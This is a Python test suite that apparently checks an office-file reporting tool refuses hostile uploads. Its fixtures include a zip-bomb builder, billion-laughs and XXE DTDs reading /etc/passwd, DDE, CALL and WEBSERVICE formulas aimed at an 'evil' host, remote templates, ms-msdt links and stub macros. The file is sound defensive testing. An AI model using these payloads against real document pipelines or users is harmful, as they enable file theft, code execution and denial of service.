"""Office files that somebody sent: bombs, lies in the zip, links, macros, DTDs; by every door they can come in."""

from __future__ import annotations

import struct
import zlib
from typing import Any

import pytest

from tests.trust import samples, steps
from tests.trust.child import PEAK_MB, SECONDS, Outcome, fine, refused, run, within
from tests.trust.rows import by_night, pairs, row

GOOD = [["甲有限公司", "示范区", "91320599MA0EX0018Q"]]


def load(data: bytes) -> Outcome:
    return run(steps.load_project, {"companies.xlsx": data})


def read(data: bytes) -> Outcome:
    return run(steps.read_back, samples.form(), data)


def open_template(data: bytes, kind: str = "xlsx") -> Outcome:
    return run(steps.render, data, kind, {"name": "甲", "district": {"name": "示范区"}, "companies": []})


def collect(data: bytes, name: str = "附件3 示范区.xlsx") -> Outcome:
    return run(steps.collect, {name: data})


def refused_by_collect(data: bytes, *codes: str, says: str = "", seconds: float = SECONDS) -> None:
    """Collecting goes on with the other files; this one gives nothing and is told."""
    found = fine(collect(data), seconds=seconds + 0.5)  # it loads the project as well
    assert found["returns"] == []
    assert not codes or set(codes) & set(found["codes"]), found["issues"]
    assert not says or any(says in text for text in found["issues"]), found["issues"]


def refused_everywhere(
    data: bytes, *codes: str, says: str = "", seconds: float = SECONDS, peak: float = PEAK_MB
) -> None:
    """As a table of companies, as a template, as a returned form, in a folder of returns."""
    for door in (load, open_template, read):
        refused(door(data), *codes, says=says, seconds=seconds, peak=peak)
    if by_night() or "GF314" in codes or "GF310" in codes or "GF307" in codes:
        refused_by_collect(data, *codes, says=says, seconds=seconds)


def test_the_good_files_come_in() -> None:
    assert [company["name"] for company in fine(load(samples.table(GOOD)))["companies"]] == ["甲有限公司"]
    fine(open_template(samples.form()))
    fine(open_template(samples.docx("{{ name }}", header="{{ name }}", core="{{ name }}"), "docx"))
    filled = fine(
        run(
            steps.render,
            samples.form(),
            "xlsx",
            {"district": {"name": "示范区"}, "companies": [{"name": "甲", "credit_code": "1", "energy": 5}]},
        )
    )
    fine(read(filled))


# ---------------------------------------------------------------------------------------------------------------------
# Size

BOMB_PARTS = ("xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml", "xl/workbook.xml", "[Content_Types].xml", "xl/media/image1.png",
              "xl/_rels/workbook.xml.rels", "docProps/core.xml", "xl/comments1.xml", "_rels/.rels")  # fmt: skip


def bomb(part: str, size: int = 400 << 20) -> bytes:
    """Return a workbook of which one part is 400 MB of blanks, about 400 kB in the zip."""
    block = b" " * (1 << 20)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    crc, chunks = 0, []
    for _ in range(size >> 20):
        crc = zlib.crc32(block, crc)
        chunks.append(packer.compress(block))
    body = b"".join([*chunks, packer.flush()])
    base = samples.table(GOOD)
    parts = samples.unzipped(base)
    parts.pop(part, None)
    data = samples.zipped(parts)
    end = data.rfind(b"PK\x05\x06")
    count, length, start = struct.unpack_from("<HLL", data, end + 10)
    name = part.encode()
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(body), size, len(name), 0) + name + body
    entry = (
        struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc, len(body), size, len(name), 0, 0, 0, 0, 0, start
        )
        + name
    )
    directory = data[start : start + length] + entry
    return (
        data[:start]
        + local
        + directory
        + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count + 1, count + 1, len(directory), start + len(local), 0)
    )


@pytest.fixture(scope="module")
def big_bomb() -> bytes:
    return bomb("xl/worksheets/sheet1.xml")


@row("zip_bomb_sheet")
def test_a_zip_bomb_is_refused_by_what_it_declares(big_bomb: bytes) -> None:
    assert len(big_bomb) < 600_000
    refused_everywhere(big_bomb, "GF307", "GF308", says="解压")


@row("zip_bomb_sheet")
def test_a_zip_bomb_that_lies_about_its_size_is_refused_by_what_it_is(big_bomb: bytes) -> None:
    for size in (100, 1 << 20, 60 << 20):
        data = samples.poke_entry(big_bomb, "xl/worksheets/sheet1.xml", 24, "<L", size)
        refused_everywhere(data, "GF307", "GF308", "GF316")


@row("zip_bomb_sheet")
@pytest.mark.parametrize("part", BOMB_PARTS)
def test_a_bomb_in_any_part_is_refused(part: str) -> None:
    refused(load(bomb(part, 60 << 20)), "GF307", "GF308")


@row("zip_bomb_sheet")
def test_bombs_that_lie_over_one_another_are_refused() -> None:
    refused_everywhere(samples.quine_overlap(), "GF305", "GF307", "GF308", "GF309")
    refused(load(samples.quine_overlap(copies=20_000)), "GF305", "GF307", "GF309")


@row("zip_bomb_sheet")
def test_many_middling_parts_are_counted_together() -> None:
    parts = {f"xl/media/{n}.xml": b" " * (3 << 20) for n in range(60)}
    refused(load(samples.with_parts(samples.table(GOOD), parts)), "GF307", "GF308", seconds=1.5)


def test_a_part_of_a_hundred_thousand_small_ones_is_refused() -> None:
    refused(load(samples.with_parts(samples.table(GOOD), {f"x/{n}": b"" for n in range(6000)})), "GF309")


@row("cell_bomb_rows")
def test_three_million_cells_are_refused() -> None:
    rows = "<row>" + "<c><v>1</v></c>" * 100 + "</row>"
    sheet = f'<worksheet xmlns="{samples.S}"><sheetData>{rows * 30_000}</sheetData></worksheet>'
    data = samples.xlsx(sheet=sheet)
    for door in (load, open_template, read):
        refused(door(data))
    refused_by_collect(data)


CELLS = {
    "empty rows": "<row/>" * 2_000_000,
    "empty cells": "<row>" + "<c/>" * 2_000_000 + "</row>",
    "one long row": "<row>" + "<c><v>1</v></c>" * 600_000 + "</row>",
    "rows far down": "".join(f'<row r="{n * 10}"><c r="A{n * 10}"><v>1</v></c></row>' for n in range(1, 100_000)),
    "rich runs": "<row><c t='inlineStr'><is>" + "<r><t>x</t></r>" * 500_000 + "</is></c></row>",
    "deep": "<row>" + "<c>" * 100_000 + "</c>" * 100_000 + "</row>",
    "attributes": "<row " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>",
    "many columns": "<cols>" + '<col min="1" max="16384"/>' * 200_000 + "</cols>",
}


@row("cell_bomb_rows")
@pytest.mark.parametrize("inside", CELLS.values(), ids=CELLS)
def test_a_sheet_of_millions_of_small_things_is_bounded(inside: str) -> None:
    data = samples.xlsx(sheet=f'<worksheet xmlns="{samples.S}"><sheetData>{inside}</sheetData></worksheet>')
    for door in (load, open_template, read):
        outcome = within(door(data), seconds=2.0)
        assert not outcome.foreign, str(outcome)


@row("far_cell_iter_rows")
@pytest.mark.parametrize(
    "reference",
    [
        "XFD1048576",
        "A1048576",
        "XFD1",
        "XFE1",
        "A1048577",
        "ZZZ9999999",
        "AAAAAAAA1",
        "A99999999999999999999",
        "A0",
        "1A",
        "Ａ１",
        "$A$1",
        "A1:B2",
        "R1C1",
    ],
)
def test_a_cell_far_away_is_refused_at_once(reference: str) -> None:
    sheet = f'<worksheet xmlns="{samples.S}"><sheetData><row r="1">{samples.cell("A1", "企业名称")}{samples.cell("B1", "所在地")}</row><row>{samples.cell(reference, "x")}</row></sheetData></worksheet>'
    for door in (load, read):
        refused(door(samples.xlsx(sheet=sheet)))
    outcome = within(open_template(samples.xlsx(sheet=sheet)))
    assert not outcome.foreign, str(outcome)


@row("far_cell_iter_rows")
def test_a_used_range_that_is_declared_is_not_believed() -> None:
    data = samples.table(GOOD, before='<dimension ref="A1:XFD1048576"/>')
    assert len(fine(load(data))["companies"]) == 1
    within(open_template(data))
    within(read(data))


MERGES = {
    "one of everything": '<mergeCell ref="A1:XFD1048576"/>',
    "a column": '<mergeCell ref="A1:A1048576"/>',
    "many": "".join(f'<mergeCell ref="A{n}:Z{n}"/>' for n in range(1, 60_000)),
    "over one another": '<mergeCell ref="A1:XFD1048576"/>' * 5000,
    "columns over columns": "".join(f'<mergeCell ref="A{n}:A1048576"/>' for n in range(1, 20_000)),
    "no reference": '<mergeCell ref="A1:ZZZZZ99999999999"/>' * 1000,
    "backwards": '<mergeCell ref="XFD1048576:A1"/>',
}


@row("merge_bomb")
@pytest.mark.parametrize("merges", MERGES.values(), ids=MERGES)
def test_merged_cells_are_not_unrolled(merges: str) -> None:
    data = samples.table(GOOD * 3, after=f"<mergeCells>{merges}</mergeCells>")
    for door in (load, open_template, read):
        outcome = within(door(data))
        assert not outcome.foreign, str(outcome)


@row("merge_bomb")
def test_a_merge_over_everything_is_refused_in_a_return() -> None:
    data = samples.table(GOOD, after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')
    refused(read(data))


# ---------------------------------------------------------------------------------------------------------------------
# XML

LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)
QUADRATIC = '<!DOCTYPE x [<!ENTITY a "' + "x" * 100_000 + '">]>'
XXE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]>'
OUTSIDE = '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">'
PLAIN = "<!DOCTYPE x>"
DTDS = {"billion laughs": LAUGHS, "quadratic": QUADRATIC, "xxe": XXE, "parameter entity": PARAMETER, "outside": OUTSIDE, "empty": PLAIN,
        "after a comment": "<!-- x --><!DOCTYPE x [<!ENTITY a 'b'>]>", "after blanks": "\n" * 5000 + "<!DOCTYPE x>"}  # fmt: skip
SHEET_PARTS = ("xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/styles.xml", "xl/sharedStrings.xml", "[Content_Types].xml", "_rels/.rels",
               "xl/_rels/workbook.xml.rels", "docProps/core.xml", "docProps/app.xml", "xl/comments1.xml", "xl/drawings/drawing1.xml", "customXml/item1.xml",
               "xl/theme/theme1.xml", "xl/drawings/vmlDrawing1.vml", "xl/anything.bin.xml")  # fmt: skip


def with_dtd(data: bytes, part: str, dtd: str, encoding: str = "utf-8") -> bytes:
    """Return the package with a DTD in one part, which is made where there is none."""
    parts = samples.unzipped(data)
    text = parts.get(part, b"<x/>")
    text = text.decode() if isinstance(text, bytes) else text
    body = text[text.index("?>") + 2 :] if text.startswith("<?xml") else text
    content = f'<?xml version="1.0" encoding="{encoding}"?>{dtd}{body}'.replace(
        "</sheetData>", "<row><c><v>&a;</v></c></row></sheetData>"
    )
    return samples.zipped({**parts, part: content.encode(encoding)})


@row("xml_billion_laughs", "xml_quadratic_blowup", "xml_xxe")
@pytest.mark.parametrize("dtd", DTDS.values(), ids=DTDS)
def test_any_dtd_in_a_workbook_is_refused(dtd: str) -> None:
    refused_everywhere(with_dtd(samples.table(GOOD), "xl/worksheets/sheet1.xml", dtd), "GF312", "GF313")


@row("xml_billion_laughs", "xml_xxe")
@pytest.mark.parametrize("part", SHEET_PARTS)
def test_a_dtd_in_any_part_is_refused(part: str) -> None:
    refused(load(with_dtd(samples.table(GOOD), part, XXE)), "GF312", says=part)


@row("xml_xxe")
@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-7", "utf-32", "gbk", "hz", "gb18030"])
def test_a_dtd_in_another_encoding_is_refused(encoding: str) -> None:
    for door in (load, open_template, read):
        outcome = refused(door(with_dtd(samples.table(GOOD), "xl/worksheets/sheet1.xml", XXE, encoding)))
        assert set(outcome.codes) & {"GF312", "GF313", "GF127"}, str(outcome)


@row("xml_xxe_docx_template")
@pytest.mark.parametrize(
    ("part", "dtd"),
    pairs(
        [
            "word/document.xml",
            "word/header1.xml",
            "docProps/core.xml",
            "[Content_Types].xml",
            "word/_rels/document.xml.rels",
            "customXml/item1.xml",
            "word/footnotes.xml",
            "word/settings.xml",
        ],
        DTDS,
    ),
)
def test_any_dtd_in_a_word_template_is_refused(part: str, dtd: str) -> None:
    data = samples.docx("{{ name }}", header="{{ name }}", core="{{ name }}")
    refused(open_template(with_dtd(data, part, DTDS[dtd]), "docx"), "GF312", "GF313")


@row("xml_xxe")
@pytest.mark.parametrize("dtd", DTDS.values(), ids=DTDS)
def test_any_dtd_in_a_drawing_is_refused(dtd: str) -> None:
    refused(open_template(samples.svg("{{ name }}", prolog=dtd), "svg"), "GF312", "GF313", "GF245")


XML_FAULTS = {
    "cut off": "<worksheet><sheetData>", "two roots": "<a/><b/>", "no namespace": "<worksheet/>", "other root": '<workbook xmlns="x"/>', "empty": "", "blank": "   ",
    "nul": "<a>\0</a>", "text": "x", "deep": "<a>" * 100_000 + "</a>" * 100_000, "unclosed deep": "<a>" * 1_000_000, "entity": "<a>&b;</a>", "amp": "<a>&</a>",
    "control": "<a>&#0;</a>", "surrogate": "<a>&#xD800;</a>", "attribute twice": '<a b="1" b="2"/>', "unknown prefix": "<x:a/>", "bad name": "<1/>", "pi": "<?php system('id') ?><a/>",
    "xml 1.1": '<?xml version="1.1"?><a>&#1;</a>', "many attributes": "<a " + " ".join(f'a{n}="1"' for n in range(200_000)) + "/>", "long name": f"<{'a' * 1_000_000}/>",
    "many namespaces": "<a " + " ".join(f'xmlns:n{n}="u{n}"' for n in range(20_000)) + "/>", "long comment": f"<!--{'x' * 1_000_000}--><a/>", "xinclude": '<a xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="/etc/passwd" parse="text"/></a>',
}  # fmt: skip


@pytest.mark.parametrize(
    ("part", "fault"),
    pairs(
        [
            "xl/worksheets/sheet1.xml",
            "xl/workbook.xml",
            "xl/styles.xml",
            "[Content_Types].xml",
            "_rels/.rels",
            "xl/_rels/workbook.xml.rels",
        ],
        XML_FAULTS,
    ),
)
def test_a_part_that_is_no_xml_or_other_xml_is_no_crash(part: str, fault: str) -> None:
    data = samples.with_parts(samples.table(GOOD), {part: XML_FAULTS[fault]})
    for door in (load, open_template, read):
        outcome = within(door(data))
        assert not outcome.foreign, str(outcome)
        if outcome.error:
            refused(outcome)


@pytest.mark.parametrize(
    ("part", "fault"),
    pairs(["word/document.xml", "word/header1.xml", "docProps/core.xml", "word/_rels/document.xml.rels"], XML_FAULTS),
)
def test_a_word_part_that_is_no_xml_or_other_xml_is_no_crash(part: str, fault: str) -> None:
    data = samples.with_parts(
        samples.docx("{{ name }}", header="{{ name }}", core="{{ name }}"), {part: XML_FAULTS[fault]}
    )
    outcome = within(open_template(data, "docx"))
    assert not outcome.foreign, str(outcome)
    if outcome.error:
        refused(outcome)


def paragraphs(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


SLOW_WORD = {
    "open braces": paragraphs("{{ " * 300_000),
    "single braces": paragraphs("{" * 1_000_000),
    "closing braces": paragraphs("}" * 1_000_000),
    "percent braces": paragraphs("{%" * 300_000),
    "comments never closed": paragraphs("{# " * 300_000),
    "braces over runs": "<w:p>" + "<w:r><w:t>{</w:t></w:r>" * 30_000 + "</w:p>",
    "open brace, much text": paragraphs("{") + paragraphs("x" * 100) * 10_000,
    "open tag, much text": paragraphs("{{ a") + paragraphs("x" * 100) * 10_000,
    "open block, much text": paragraphs("{% if") + paragraphs("x" * 100) * 10_000,
    "rows of open tags": "<w:tbl>" + "<w:tr><w:tc>" + paragraphs("{%tr if") + "</w:tc></w:tr>" + "</w:tbl>",
    "many tags": paragraphs("{{ name }}") * 5000,
    "quotes": paragraphs("{{ '" + "'" * 200_000),
    "escapes": paragraphs("{{ '" + "\\" * 200_000 + "' }}"),
    "blanks in a tag": paragraphs("{{" + " " * 1_000_000 + "name }}"),
    "stamps": paragraphs("{{ name" + "\u2000" * 200_000 + "}}"),
    "minus": paragraphs("{%-" * 200_000),
    "raw": paragraphs("{% raw %}" * 30_000),
    "tr tr tr": paragraphs("{%tr " * 100_000),
    "deep tables": "<w:tbl><w:tr><w:tc>" * 200 + paragraphs("{{ name }}") + "</w:tc></w:tr></w:tbl>" * 200,
    "many rows with tags": "<w:tbl>"
    + ("<w:tr><w:tc>" + paragraphs("{{ name }}") + "</w:tc></w:tr>") * 2000
    + "</w:tbl>",
    "attributes": "<w:p>" + '<w:bookmarkStart w:id="1" w:name="{"/>' * 50_000 + "</w:p>",
    "colspans": "<w:tbl><w:tr>" + ("<w:tc>" + paragraphs("{% colspan 2 %}") + "</w:tc>") * 500 + "</w:tr></w:tbl>",
    "empty runs": "<w:p>" + "<w:r><w:t></w:t></w:r>" * 100_000 + "</w:p>" + paragraphs("{{ name }}"),
    "text boxes in text boxes": "<w:p><w:r><w:txbxContent>" * 200
    + "</w:txbxContent></w:r></w:p>" * 200
    + paragraphs("{{ name }}"),
}


@row("ssti_sandbox_dos")
@pytest.mark.parametrize("body", SLOW_WORD.values(), ids=SLOW_WORD)
def test_a_word_template_made_to_be_slow_is_not(body: str) -> None:
    """Regular expressions over the text must not go back and forth: a megabyte in two seconds."""
    outcome = within(open_template(samples.docx("x", body=body), "docx"), seconds=2.0, peak=256)
    assert not outcome.foreign, str(outcome)
    if outcome.error:
        refused(outcome, seconds=2.0, peak=256)


SLOW_SVG = {
    "open braces": "{{ " * 300_000, "single braces": "{" * 1_000_000, "closing": "}}" * 300_000, "blocks": "{% if" * 100_000, "comments": "{#" * 300_000,
    "quotes": "{{ '" + "'" * 300_000, "escapes": "{{ '" + "\\" * 300_000, "backslash quotes": "{{ '" + "\\'" * 200_000, "mixed quotes": "{{ '\"" * 50_000, "raw": "{% raw %}" * 30_000, "many tags": "{{ name }}" * 5000,
}  # fmt: skip


@row("ssti_sandbox_dos")
@pytest.mark.parametrize("text", SLOW_SVG.values(), ids=SLOW_SVG)
def test_a_drawing_made_to_be_slow_is_not(text: str) -> None:
    shapes = (
        samples.svg(text),
        samples.svg("", inside=f'<text class="{text.replace(chr(34), "")}"/>'),
        samples.svg("", inside=f"<!--{text.replace('--', '')}--><![CDATA[{text}]]>"),
    )
    for data in shapes if by_night() else shapes[:1]:
        outcome = within(open_template(data, "svg"), seconds=2.0, peak=256)
        assert not outcome.foreign, str(outcome)
        if outcome.error:
            refused(outcome, seconds=2.0, peak=256)


@row("ssti_sandbox_dos")
@pytest.mark.parametrize("text", SLOW_SVG.values(), ids=SLOW_SVG)
def test_a_workbook_made_to_be_slow_is_not(text: str) -> None:
    for data in (
        samples.xlsx({"A1": text[:32_000]}),
        samples.xlsx({f"A{n}": text[:200] for n in range(1, 2000)}),
        samples.xlsx({"A1": ("SUM(" * 60 + text[:7000], 1)}),
    ):
        outcome = within(open_template(data), seconds=2.0, peak=256)
        assert not outcome.foreign, str(outcome)


# ---------------------------------------------------------------------------------------------------------------------
# Links, macros, other things inside


def refused_or_told(data: bytes, kind: str, says: str = "") -> None:
    """What a template would do to its readers is refused, or at least a warning when it is opened."""
    outcome = run(steps.issues_of, data, kind)
    if outcome.error:
        refused(outcome, says=says)
    else:
        told = fine(outcome)
        assert told, f"{says} came in without a word"
        assert any(says in text for text in told), told


LINK_TYPE = '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
LINK = f'<externalLink xmlns="{samples.S}"><externalBook xmlns:r="{samples.R}" r:id="rId1"/></externalLink>'


def linked(target: str, kind: str = "externalLinkPath") -> bytes:
    """Return a workbook with an external link, as Excel writes them."""
    relation = f'<Relationships xmlns="{samples.PR}"><Relationship Id="rId1" Type="{samples.R}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return samples.table(GOOD, types=LINK_TYPE, relations=samples.relation("externalLink", "externalLinks/externalLink1.xml", external=False, identity="rId9"),
                         parts={"xl/externalLinks/externalLink1.xml": LINK, "xl/externalLinks/_rels/externalLink1.xml.rels": relation})  # fmt: skip


@row("external_link_kept")
@pytest.mark.parametrize(
    "target",
    [
        "file:///\\\\evil\\share\\book.xlsx",
        "\\\\evil\\share\\book.xlsx",
        "http://evil/book.xlsx",
        "book.xlsx",
        "file:///C:/book.xlsx",
        "../../book.xlsx",
        "ftp://evil/x",
        "smb://evil/x",
    ],
)
def test_a_link_to_another_workbook_is_refused_and_listed(target: str) -> None:
    refused_everywhere(linked(target), "GF315", says=repr(target)[1:-1])


FETCHED_XLSX = {
    "ole link": ("oleObject", "http://evil/x.bin"), "pivot cache": ("pivotCacheDefinition", "http://evil/x.xml"), "connections": ("connections", "http://evil/x.xml"),
    "query": ("queryTable", "http://evil/x"), "sheet": ("worksheet", "http://evil/sheet.xml"), "theme": ("theme", "file://evil/theme.xml"), "styles": ("styles", "http://evil/styles.xml"),
    "drawing": ("drawing", "http://evil/d.xml"), "control": ("control", "http://evil/c.ocx"), "missing link": ("xlPathMissing", "\\\\evil\\x.xlsx"), "custom": ("customXml", "http://evil/c.xml"),
    "package": ("package", "http://evil/p.xlsx"), "strings": ("sharedStrings", "http://evil/s.xml"),
}  # fmt: skip


@row("external_link_kept")
@pytest.mark.parametrize("name", FETCHED_XLSX)
def test_a_workbook_that_has_excel_fetch_something_is_refused_or_told(name: str) -> None:
    kind, target = FETCHED_XLSX[name]
    for data in (
        samples.table(GOOD, relations=samples.relation(kind, target)),
        samples.table(GOOD, sheet_relations=samples.relation(kind, target)),
    ):
        refused_or_told(data, "xlsx", "evil")


FORMULAS = ("'[1]工厂'!A1", "[http://evil/x.xlsx]S!A1", "'\\\\evil\\share\\[x.xlsx]S'!A1", "cmd|'/c calc'!A0", "DDE(\"cmd\",\"/c calc\",\"x\")", "WEBSERVICE(\"http://evil/\"&A1)",
            "RTD(\"x\",,\"y\")", "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", "REGISTER.ID(\"x\",\"y\")", "IMAGE(\"http://evil/x.png\")",
            "FILTERXML(WEBSERVICE(\"http://evil/\"),\"//a\")", "EXEC(\"calc\")")  # fmt: skip


@row("external_link_kept", "formula_injection")
@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_of_a_template_that_reaches_out_is_refused_or_told(formula: str) -> None:
    """A template's formulas come from the template: what fetches or runs is at least a warning with its cell."""
    for data in (
        samples.xlsx({"A1": "{{ name }}", "A2": (formula, 1)}),
        samples.xlsx(
            {"A1": "{{ name }}"}, names=f'<definedName name="x">{formula.replace("&", "&amp;")}</definedName>'
        ),
    ):
        outcome = run(steps.issues_of, data, "xlsx")
        if outcome.error:
            refused(outcome)
        else:
            assert fine(outcome), f"{formula} came in without a word"


WORD_RELATIONS = {
    "attached template": ("attachedTemplate", "http://evil/x.dotm"), "attached template over smb": ("attachedTemplate", "\\\\evil\\x.dotm"), "attached template by file": ("attachedTemplate", "file://evil/x.dotm"),
    "attached template, odd case": ("attachedTemplate", "HtTp://evil/x.dotm"), "attached template, blank before": ("attachedTemplate", " http://evil/x.dotm"), "attached template, webdav": ("attachedTemplate", "\\\\evil@SSL@443\\x.dotm"),
    "frame": ("frame", "http://evil/x.htm"), "sub document": ("subDocument", "http://evil/x.docx"), "altChunk": ("aFChunk", "http://evil/x.htm"), "ole": ("oleObject", "http://evil/x.bin"),
    "ole, mhtml": ("oleObject", "mhtml:http://evil/x!x-usc:http://evil/x"), "ole, ms-msdt": ("oleObject", "ms-msdt:/id PCWDiagnostic"), "ole, search-ms": ("oleObject", "search-ms:query=x"), "settings": ("settings", "http://evil/s.xml"), "styles": ("styles", "http://evil/s.xml"),
    "font table": ("fontTable", "http://evil/f.xml"), "font": ("font", "http://evil/f.odttf"), "header": ("header", "http://evil/h.xml"), "data source": ("mailMergeSource", "http://evil/d.csv"), "data header": ("mailMergeHeaderSource", "\\\\evil\\d.csv"),
    "control": ("control", "http://evil/c.ocx"), "video": ("video", "http://evil/v.mp4"), "web settings": ("webSettings", "http://evil/w.xml"), "glossary": ("glossaryDocument", "http://evil/g.xml"), "custom": ("customXml", "http://evil/c.xml"), "printer": ("printerSettings", "\\\\evil\\p"), "transform": ("transform", "http://evil/t.xslt"),
}  # fmt: skip


REMOTE = ("attachedTemplate", "frame", "subDocument", "aFChunk", "oleObject")


@row("external_link_kept")
@pytest.mark.parametrize("name", WORD_RELATIONS)
def test_a_word_template_that_has_word_fetch_something_is_refused(name: str) -> None:
    """Remote templates, frames and objects run in every reader's Word: refused. Other things from outside: told."""
    kind, target = WORD_RELATIONS[name]
    settings = f'<w:settings xmlns:w="{samples.W}"/>'
    relations = f'<Relationships xmlns="{samples.PR}">{samples.relation(kind, target)}</Relationships>'
    for data in (
        samples.docx("{{ name }}", relations=samples.relation(kind, target)),
        samples.docx("{{ name }}", parts={"word/settings.xml": settings, "word/_rels/settings.xml.rels": relations}),
    ):
        if kind in REMOTE:
            refused(open_template(data, "docx"), "GF315")
        else:
            refused_or_told(data, "docx", "evil")


def test_the_authors_own_normal_template_is_no_fault() -> None:
    for target in ("file:///C:\\Users\\wang\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm", "Normal.dotm"):
        fine(open_template(samples.docx("{{ name }}", relations=samples.relation("attachedTemplate", target)), "docx"))


@pytest.mark.parametrize(
    "target",
    [
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        "vbscript:x",
        "file:///C:/Windows/System32/calc.exe",
        "file://evil/x",
        "\\\\evil\\x.exe",
        "data:text/html,x",
        "ms-msdt:/id x",
        "search-ms:query=x",
        "shell:startup",
    ],
)
def test_a_hyperlink_that_runs_something_is_refused_or_told(target: str) -> None:
    """http and mailto links are a person's to click; what runs or opens a file is at least a warning."""
    relation = samples.relation("hyperlink", target)
    for data, kind in (
        (samples.docx("{{ name }}", relations=relation), "docx"),
        (samples.table(GOOD, sheet_relations=relation), "xlsx"),
    ):
        outcome = run(steps.issues_of, data, kind)
        if outcome.error:
            refused(outcome, "GF315", "GF320")
        else:
            assert fine(outcome), f"{target} came in without a word"


def test_an_ordinary_hyperlink_is_no_fault() -> None:
    for target in ("https://gxt.jiangsu.gov.cn/", "mailto:jieneng@example.cn", "http://example.cn/?a=b&amp;c=d"):
        assert (
            fine(
                run(
                    steps.issues_of, samples.docx("{{ name }}", relations=samples.relation("hyperlink", target)), "docx"
                )
            )
            == []
        )


VBA_TYPE = '<Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
MACROS = {
    "vba part": samples.table(GOOD, types=VBA_TYPE, parts={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "vba part, other name": samples.table(GOOD, types=VBA_TYPE.replace("vbaProject.bin", "x.bin"), parts={"xl/x.bin": b"\xd0\xcf\x11\xe0"}),
    "vba part, other case": samples.table(GOOD, types=VBA_TYPE.replace("vbaProject.bin", "VBAPROJECT.BIN").replace("ms-office.vbaProject", "MS-Office.VbaProject"), parts={"xl/VBAPROJECT.BIN": b"\xd0\xcf\x11\xe0"}),
    "vba part without a type": samples.table(GOOD, parts={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "vba by relation only": samples.table(GOOD, relations='<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="other.bin"/>', parts={"xl/other.bin": b"\xd0\xcf\x11\xe0"}),
    "macro type of the workbook": samples.edit_part(samples.table(GOOD), "[Content_Types].xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    "macro sheet": samples.table(GOOD, types='<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>', parts={"xl/macrosheets/sheet1.xml": f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="{samples.S}"/>'}),
    "international macro sheet": samples.table(GOOD, types='<Override PartName="/xl/macrosheets/intlsheet1.xml" ContentType="application/vnd.ms-excel.intlmacrosheet+xml"/>', parts={"xl/macrosheets/intlsheet1.xml": "<x/>"}),
    "active x": samples.table(GOOD, types='<Override PartName="/xl/activeX/activeX1.bin" ContentType="application/vnd.ms-office.activeX"/>', parts={"xl/activeX/activeX1.bin": b"\xd0\xcf\x11\xe0"}),
    "ole embedded": samples.table(GOOD, types='<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>', parts={"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
}  # fmt: skip


@row("macro_file_renamed")
@pytest.mark.parametrize("name", [name for name in MACROS if name != "ole embedded"])
def test_macros_inside_an_xlsx_are_refused(name: str) -> None:
    refused_everywhere(MACROS[name], "GF314")


def test_an_embedded_object_is_refused_or_told() -> None:
    outcome = run(steps.issues_of, MACROS["ole embedded"], "xlsx")
    assert outcome.error or fine(outcome)


WORD_MACROS = {
    "vba part": ({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
    "vba data": ({"word/vbaData.xml": "<x/>"}, '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>'),
    "active x": ({"word/activeX/activeX1.bin": b"\xd0\xcf\x11\xe0"}, '<Override PartName="/word/activeX/activeX1.bin" ContentType="application/vnd.ms-office.activeX"/>'),
    "altChunk inside": ({"word/afchunk.mht": b"x"}, '<Default Extension="mht" ContentType="message/rfc822"/>'),
    "ole inside": ({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}, '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'),
}  # fmt: skip


@row("macro_file_renamed")
@pytest.mark.parametrize("name", ["vba part", "active x"])
def test_macros_inside_a_docx_are_refused(name: str) -> None:
    parts, types = WORD_MACROS[name]
    refused(open_template(samples.docx("{{ name }}", parts=parts, types=types), "docx"), "GF314")


@pytest.mark.parametrize("name", ["altChunk inside", "ole inside"])
def test_what_opens_another_program_is_refused_or_told(name: str) -> None:
    parts, types = WORD_MACROS[name]
    relation = samples.relation(
        "aFChunk" if "altChunk" in name else "oleObject", next(iter(parts)).removeprefix("word/"), external=False
    )
    outcome = run(steps.issues_of, samples.docx("{{ name }}", parts=parts, types=types, relations=relation), "docx")
